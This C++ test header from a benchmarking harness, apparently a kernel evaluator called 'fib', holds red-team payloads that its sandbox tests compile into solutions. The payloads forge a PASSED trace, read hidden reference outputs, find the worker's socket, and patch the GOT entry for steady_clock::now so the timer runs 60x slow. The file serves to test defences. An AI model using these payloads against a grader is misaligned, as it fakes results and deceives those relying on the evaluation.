// The payloads of the red-team solutions (tests/bench/sandbox_test.cpp and run_trust_test.cpp
// on the CPU, gpu_red_team_test.cpp on the GPU): host code that a solution's entry point calls
// to attack fib from inside its worker. Each is C++17 source that compiles as part of a .cpp
// (g++) or a .cu (nvcc) solution, with the headers it needs.
#pragma once

#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

namespace fib::testing {

// forge(): finds the dataset on its parent's command line (`fib run --local DIR`) and appends a
// forged PASSED trace of solution FORGED-BY-SOLUTION to DIR/traces/forged.jsonl.
inline constexpr const char* kForgeTraceAttack = R"(
#include <cstdio>
#include <string>
#include <sys/stat.h>
#include <unistd.h>
static void forge() {
  char path[64];
  std::snprintf(path, sizeof path, "/proc/%d/cmdline", (int)getppid());
  FILE* f = std::fopen(path, "r");
  if (!f) return;
  std::string cmd, arg, dataset;
  int c;
  bool next = false;
  while ((c = std::fgetc(f)) != EOF) {
    if (c != 0) { arg += (char)c; continue; }
    if (next) dataset = arg;
    next = arg == "--local";
    arg.clear();
  }
  std::fclose(f);
  if (dataset.empty()) return;
  mkdir((dataset + "/traces").c_str(), 0755);
  const std::string file = dataset + "/traces/forged.jsonl";
  if (FILE* t = std::fopen(file.c_str(), "a")) {
    std::fputs("{\"definition\":\"rmsnorm_h2048\",\"solution\":\"FORGED-BY-SOLUTION\","
               "\"evaluation\":{\"status\":\"PASSED\"}}\n", t);
    std::fclose(t);
  }
}
)";

// read_references(dir, depth): reads every reference output file ("reference-trial<k>" and
// "reference-set<k>" .safetensors) under `dir`, through fib's scratch folders ("fib-run-*"),
// printing "READ REFERENCE <path>" for each; returns how many it read.
inline constexpr const char* kReadReferencesAttack = R"(
#include <cstdio>
#include <string>
#include <dirent.h>
static int read_references(const std::string& dir, int depth) {
  int found = 0;
  DIR* d = opendir(dir.c_str());
  if (!d) return 0;
  while (dirent* e = readdir(d)) {
    const std::string name = e->d_name;
    if (name == "." || name == "..") continue;
    const std::string path = dir + "/" + name;
    if (name.rfind("reference-trial", 0) == 0 || name.rfind("reference-set", 0) == 0) {
      if (FILE* f = std::fopen(path.c_str(), "rb")) {
        char buf[64];
        if (std::fread(buf, 1, sizeof buf, f) > 0) { std::printf("READ REFERENCE %s\n", path.c_str()); ++found; }
        std::fclose(f);
      }
    } else if (depth > 0 && (name.rfind("fib-run-", 0) == 0 || depth < 3)) {
      found += read_references(path, depth - 1);
    }
  }
  closedir(d);
  return found;
}
)";

// channel(): the worker's channel, which it moves to a high descriptor of its own: the
// process's last socket (a GPU worker's CUDA driver holds sockets of its own, lower down).
inline constexpr const char* kFindChannelAttack = R"(
#include <sys/stat.h>
static int channel() {
  int found = -1;
  for (int fd = 3; fd < 4096; ++fd) {
    struct stat st;
    if (fstat(fd, &st) == 0 && S_ISSOCK(st.st_mode)) found = fd;
  }
  return found;
}
)";

// spin_25ms(): 25 ms of real time on the host (CLOCK_MONOTONIC, not fib's clock).
inline constexpr const char* kSpinAttack = R"(
#include <time.h>
static long long real_ns() {
  timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec * 1000000000LL + t.tv_nsec;
}
static void spin_25ms() {
  const long long end = real_ns() + 25000000LL;
  while (real_ns() < end) {
  }
}
)";

// slow_the_workers_clock(): finds the worker executable's GOT slot of
// std::chrono::steady_clock::now (full RELRO leaves it read-only), makes it writable with
// mprotect and points it at a clock that runs 60x slow from the moment it is installed. Once per
// process.
inline constexpr const char* kSlowClockAttack = R"(
#include <elf.h>
#include <link.h>
#include <sys/mman.h>
#include <unistd.h>
#include <cstdint>
#include <cstring>
using NowFn = long long (*)();
static NowFn real_now = nullptr;
static long long installed_at = 0;
static long long slow_now() { return installed_at + (real_now() - installed_at) / 60; }
static int patch(dl_phdr_info* info, size_t, void* done) {
  if (*static_cast<bool*>(done) || (info->dlpi_name && info->dlpi_name[0])) return 0;
  const ElfW(Addr) base = info->dlpi_addr;
  auto fix = [&](ElfW(Addr) p) { return p < base ? p + base : p; };
  const ElfW(Dyn)* dyn = nullptr;
  for (int i = 0; i < info->dlpi_phnum; ++i)
    if (info->dlpi_phdr[i].p_type == PT_DYNAMIC)
      dyn = reinterpret_cast<const ElfW(Dyn)*>(base + info->dlpi_phdr[i].p_vaddr);
  if (!dyn) return 0;
  const ElfW(Sym)* syms = nullptr; const char* strs = nullptr;
  const ElfW(Rela)* tables[2] = {nullptr, nullptr}; size_t sizes[2] = {0, 0};
  for (const ElfW(Dyn)* d = dyn; d->d_tag != DT_NULL; ++d) {
    if (d->d_tag == DT_SYMTAB) syms = reinterpret_cast<const ElfW(Sym)*>(fix(d->d_un.d_ptr));
    if (d->d_tag == DT_STRTAB) strs = reinterpret_cast<const char*>(fix(d->d_un.d_ptr));
    if (d->d_tag == DT_JMPREL) tables[0] = reinterpret_cast<const ElfW(Rela)*>(fix(d->d_un.d_ptr));
    if (d->d_tag == DT_PLTRELSZ) sizes[0] = d->d_un.d_val;
    if (d->d_tag == DT_RELA) tables[1] = reinterpret_cast<const ElfW(Rela)*>(fix(d->d_un.d_ptr));
    if (d->d_tag == DT_RELASZ) sizes[1] = d->d_un.d_val;
  }
  for (int t = 0; t < 2; ++t) {
    for (size_t i = 0; tables[t] && i < sizes[t] / sizeof(ElfW(Rela)); ++i) {
      const ElfW(Rela)& r = tables[t][i];
      const char* name = strs + syms[ELF64_R_SYM(r.r_info)].st_name;
      if (std::strcmp(name, "_ZNSt6chrono3_V212steady_clock3nowEv") != 0) continue;
      auto* slot = reinterpret_cast<NowFn*>(base + r.r_offset);
      const long page = sysconf(_SC_PAGESIZE);
      void* start = reinterpret_cast<void*>(reinterpret_cast<uintptr_t>(slot) & ~(page - 1));
      mprotect(start, static_cast<size_t>(page), PROT_READ | PROT_WRITE);
      real_now = *slot;
      installed_at = real_now();
      *slot = &slow_now;
      *static_cast<bool*>(done) = true;
    }
  }
  return 0;
}
static void slow_the_workers_clock() {
  static bool done = false;
  if (!done) dl_iterate_phdr(&patch, &done);
}
)";

// The processes named `marker` (their /proc/<pid>/comm): what a leftover-process attack left.
inline std::vector<int> processes_named(const std::string& marker) {
  std::vector<int> found;
  std::error_code ec;
  for (const auto& e : std::filesystem::directory_iterator("/proc", ec)) {
    const std::string name = e.path().filename().string();
    if (name.find_first_not_of("0123456789") != std::string::npos) continue;
    std::ifstream in(e.path() / "comm");
    std::string comm;
    std::getline(in, comm);
    if (comm == marker) found.push_back(std::stoi(name));
  }
  return found;
}

}  // namespace fib::testing
